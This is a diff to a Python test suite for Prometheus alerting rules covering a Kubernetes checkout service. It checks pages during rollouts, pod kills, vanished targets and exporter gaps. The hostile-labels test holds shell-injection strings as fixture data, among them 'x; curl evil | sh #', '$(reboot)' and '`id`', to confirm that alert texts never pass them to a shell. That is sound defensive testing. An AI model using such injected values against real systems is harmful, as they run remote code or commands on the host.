@@ -95,12 +95,14 @@ def abouts(alerts: Iterable[Alert]) -> list[tuple[str, str, str]]:
 
 def test_errors_during_a_rollout(rules: list[Path], tmp_path: Path, promtool: str, golden: Golden) -> None:
     """8% of requests get a 503 while a rollout has 3 of 10 pods not ready: one page, which names both."""
-    series = failing() | around(rolled=58, not_ready=3)
+    series = failing() | around(rolled=58, hurt=58, not_ready=3)
     scene = Scene("rollout", series, (59, 60, 75))
     played = play(promtool, tmp_path, rules, [scene])
     assert [abouts(played["rollout", minute]) for minute in scene.minutes] == [[], [], [("availability", "page", "")]]
     page = of(played["rollout", 75], "availability", "page")
-    assert "rollout of deploy/checkout in shop is under way (newest revision since 00:58 UTC)" in page.texts["diagnosis"]
+    assert (
+        "rollout of deploy/checkout in shop is under way (newest revision since 00:58 UTC)" in page.texts["diagnosis"]
+    )
     assert f"3 of 10 pods not ready: {' '.join(shop.PODS[:3])}" in page.texts["diagnosis"]
     fit(every(played))
     golden(GOLDENS / "rollout.txt", paper([(75, played["rollout", 75])]))
@@ -109,7 +111,9 @@ def test_errors_during_a_rollout(rules: list[Path], tmp_path: Path, promtool: st
 def killed(up: str) -> dict[str, str]:
     """Every request fails from 01:00 on, and at 01:06 every pod is killed; each series ends."""
     series = shop.requests(((30, OUTAGE), (0, 6)), ((0, OUTAGE), (30, 6)), "stale")
-    return series | shop.targets(up) | shop.cluster(END, rolled=66, not_ready=10) | shop.neighbour(END) | shop.budget(END)
+    return (
+        series | shop.targets(up) | shop.cluster(END, hurt=66, not_ready=10) | shop.neighbour(END) | shop.budget(END)
+    )
 
 
 def pages(alerts: Iterable[Alert]) -> list[tuple[str, str, str]]:
@@ -123,7 +127,7 @@ def test_all_pods_are_killed(rules: list[Path], tmp_path: Path, promtool: str, g
     scene = Scene("killed", killed(shop.held((1, 66), (0, END - 66))), minutes)
     played = play(promtool, tmp_path, rules, [scene])
     silent = [minute for minute in minutes if not pages(played["killed", minute])]
-    assert silent == [59, 60, 61]
+    assert silent == [59, 60]
     assert pages(played["killed", 64]) == [("availability", "page", "")]
     assert ("availability", "nodata", "down") in pages(played["killed", 70])
     assert ("availability", "nodata", "vanished") not in abouts(played["killed", 89])
@@ -134,13 +138,18 @@ def test_all_pods_are_killed(rules: list[Path], tmp_path: Path, promtool: str, g
 def test_all_pods_and_their_targets_are_gone(
     rules: list[Path], tmp_path: Path, promtool: str, golden: Golden
 ) -> None:
-    """Where the targets vanish with the pods nothing is down; what was due and did not come pages."""
+    """Where the targets vanish with the pods nothing is down; what was due and did not come pages.
+
+    The errors' page is kept for 5m after the last counts of them, and what vanished pages 10m after those: between
+    the two nothing fires for 5m.
+    """
     minutes = tuple(range(59, 96))
     scene = Scene("gone", killed(f"{shop.held((1, 66))} stale"), minutes)
     played = play(promtool, tmp_path, rules, [scene])
-    assert ("availability", "nodata", "vanished") in pages(played["gone", 90])
+    silent = [minute for minute in minutes if not pages(played["gone", minute])]
+    assert silent == [59, 60, 75, 76, 77, 78, 79]
+    assert pages(played["gone", 90]) == [("availability", "nodata", "vanished"), ("latency", "nodata", "vanished")]
     fit(every(played))
-    print({m: pages(played["gone", m]) for m in minutes})
     golden(GOLDENS / "gone.txt", paper([(90, played["gone", 90])]))
 
 
@@ -160,7 +169,7 @@ def test_no_exporter(rules: list[Path], tmp_path: Path, promtool: str, golden: G
 
 def test_any_series_of_an_exporter_missing(rules: list[Path], tmp_path: Path, promtool: str) -> None:
     """Without any one metric no text breaks, no cause is invented, and none is ok that was found with it."""
-    series = failing() | around(rolled=58, not_ready=3)
+    series = failing() | around(rolled=58, hurt=58, not_ready=3)
     kinds = _kinds(series)
     scenes = [Scene("all", series, (75,))]
     for kind in kinds:
@@ -189,8 +198,8 @@ def fine(diagnosis: str) -> set[str]:
 
 def test_two_exporters(rules: list[Path], tmp_path: Path, promtool: str) -> None:
     """Two kube-state-metrics that overlap, as in an upgrade, say what one says."""
-    one = failing() | around(rolled=58, not_ready=3)
-    two = one | shop.cluster(END, rolled=58, not_ready=3, exporter="10.1.0.2:8080")
+    one = failing() | around(rolled=58, hurt=58, not_ready=3)
+    two = one | shop.cluster(END, rolled=58, hurt=58, not_ready=3, exporter="10.1.0.2:8080")
     played = play(promtool, tmp_path, rules, [Scene("one", one, (75,)), Scene("two", two, (75,))])
     assert played["one", 75] == played["two", 75]
     assert len(played["one", 75]) == 1
@@ -200,25 +209,31 @@ def test_two_exporters(rules: list[Path], tmp_path: Path, promtool: str) -> None
 HOSTILE = ("x; curl evil | sh #", "--all", "$(reboot)", "checkout-a-b; reboot", '{{ query "up" }}', "a\\nb", "`id`")
 
 
+def _hostile(text: str) -> dict[str, str]:
+    """Objects of this name wherever an exporter or an application may name one."""
+    said = {
+        f'kube_pod_status_ready|pod="{text}",condition="true"': shop.held((0, END)),
+        f'kube_pod_container_status_restarts_total|pod="{text}",container="{text}"': shop.grown((1, END)),
+        f'kube_pod_info|pod="{text}",node="{text}"': shop.held((1, END)),
+        f'kube_node_status_condition|node="{text}",condition="Ready",status="true"': shop.held((1, END)),
+        f'kube_resourcequota|resourcequota="{text}",resource="{text}",type="used"': shop.held((1, END)),
+        f'kube_resourcequota|resourcequota="{text}",resource="{text}",type="hard"': shop.held((99, END)),
+        f'kube_replicaset_owner|replicaset="{text}",owner_kind="Deployment",owner_name="checkout"': shop.held(
+            (1, END)
+        ),
+        f'kube_replicaset_created|replicaset="{text}"': shop.held((-86_400, END)),
+        f'http_requests_total|job="checkout",code="503",route="{text}"': shop.grown((1, END)),
+    }
+    where = f'instance="{text}",namespace="shop"'
+    named = ((*name.split("|", 1), values) for name, values in said.items())
+    return {f"{metric}{{{where},{labels}}}": values for metric, labels, values in named}
+
+
 def test_hostile_labels(rules: list[Path], tmp_path: Path, promtool: str) -> None:
     """Whatever a pod, a container, a node or an instance is called, no text carries it into a shell."""
-    series = failing() | around(rolled=58, not_ready=3)
-    for number, value in enumerate(HOSTILE):
-        text = value.replace("\\", "\\\\").replace('"', '\\"')
-        where = f'instance="{text}",job="kube-state-metrics",namespace="shop"'
-        series |= {
-            f'kube_pod_status_ready{{{where},pod="{text}",condition="true"}}': shop.held((0, END)),
-            f'kube_pod_container_status_restarts_total{{{where},pod="{text}",container="{text}"}}': f"0+1x{2 * END:.0f}",
-            f'kube_pod_info{{{where},pod="{text}",node="{text}"}}': shop.held((1, END)),
-            f'kube_node_status_condition{{{where},node="{text}",condition="Ready",status="true"}}': shop.held((1, END)),
-            f'kube_resourcequota{{{where},resourcequota="{text}",resource="{text}",type="used"}}': shop.held((number, END)),
-            f'kube_resourcequota{{{where},resourcequota="{text}",resource="{text}",type="hard"}}': shop.held((99, END)),
-            f'kube_replicaset_owner{{{where},replicaset="{text}",owner_kind="Deployment",owner_name="checkout"}}': shop.held(
-                (1, END)
-            ),
-            f'kube_replicaset_created{{{where},replicaset="{text}"}}': shop.held((-86_400, END)),
-            f'http_requests_total{{job="checkout",instance="{text}",code="503",route="{text}"}}': f"0+1x{2 * END:.0f}",
-        }
+    series = failing() | around(rolled=58, hurt=58, not_ready=3)
+    for value in HOSTILE:
+        series |= _hostile(value.replace("\\", "\\\\").replace('"', '\\"'))
     played = play(promtool, tmp_path, rules, [Scene("hostile", series, (75,))])
     fit(every(played))
     page = of(played["hostile", 75], "availability", "page")
